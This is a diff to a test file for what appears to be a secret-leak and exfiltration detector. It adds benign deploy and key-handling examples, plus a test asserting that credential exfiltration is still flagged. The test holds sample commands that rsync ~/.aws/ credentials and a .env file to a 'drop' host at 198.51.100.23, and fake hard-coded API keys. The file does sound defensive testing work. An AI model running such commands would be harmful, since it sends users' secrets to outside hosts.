@@ -181,7 +181,19 @@ PLAIN_FACTS = [
     "ai_client = OpenAI(api_key=os.environ['OPENAI_API_KEY'])",
     "requests.get(url, verify=os.getenv('ENV') != 'local', timeout=10)",  # an env read beside a request sends nothing
     "Authorization header: `curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user`",
+    "rsync -avz --exclude '.env' ./web/ deploy@web-01.school.example:/var/www/school/",  # the secret kept back
+    "rsync -av --exclude=.env ./site/ deploy@10.20.0.15:/var/www/news/",
+    "const apiKey = process.env.MAP_API_KEY; // read the key from the environment, never hard-code it",
+    "Put MAPS_API_KEY in .env (not in git), e.g. MAPS_API_KEY=sample-000-placeholder.",
 ]
+
+
+def test_a_secret_sent_or_written_out_is_still_caught_beside_the_allowances() -> None:
+    """The allowances are for the excluded file and for where a key is read from, nothing wider."""
+    assert "exfil.net_copy" in ids("rsync -av --exclude .env ~/.aws/ drop@198.51.100.23:/srv/")
+    assert "exfil.net_copy" in ids("rsync -av ./.env drop@198.51.100.23:/srv/")
+    assert ids("API_KEY=8f3kd92jf83hf7sd9f2kd83jf") == ["secret.assignment"]
+    assert ids("api_key=envx8f3kd92jf83hf7sd9f2kd") == ["secret.assignment"]
 
 
 @pytest.mark.parametrize("text", PLAIN_FACTS)
